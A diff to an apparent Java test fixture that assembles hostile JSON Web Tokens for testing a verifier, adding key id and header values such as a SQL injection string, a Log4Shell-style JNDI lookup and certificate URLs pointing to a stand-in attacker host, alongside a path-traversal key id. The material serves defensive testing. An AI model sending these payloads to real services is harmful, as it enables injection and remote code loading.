@@ -13,7 +13,6 @@ import java.util.Base64;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-import java.util.Set;
 import javax.crypto.spec.SecretKeySpec;
 import org.jose4j.jwk.JsonWebKey;
 import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
@@ -113,6 +112,20 @@ final class HostileTokens {
         hostile.put(
                 "a key id that is a path",
                 draft.header("kid", "../../../../dev/null").sign());
+        List.of(
+                        "' OR 1=1 --",
+                        "${jndi:ldap://evil.example.com/a}",
+                        "https://evil.example.com/key",
+                        key.getKeyId() + " ")
+                .forEach(id ->
+                        hostile.put("the key id " + id, draft.header("kid", id).sign()));
+        hostile.put(
+                "a certificate's address in the header",
+                draft.header("x5u", "https://evil.example.com/cert.pem").sign());
+        hostile.put(
+                "a certificate in the header",
+                draft.header("x5c", List.of("MIIB")).sign());
+        hostile.putAll(HostilePayloads.of(draft.sign(), key));
         hostile.put("another signature", changedSignature(draft.sign()));
         hostile.put("other claims under the signature", changedClaims(draft));
         confusedWith(draft, hostile);
@@ -172,10 +185,5 @@ final class HostileTokens {
 
     private static long past() {
         return System.currentTimeMillis() / 1000 - 3_600;
-    }
-
-    /** Words that are no token at all. */
-    static Set<String> garbage() {
-        return Set.of("x", "a.b", "a.b.c", "eyJ.eyJ.x", "..", ".".repeat(100), "A".repeat(5_000));
     }
 }
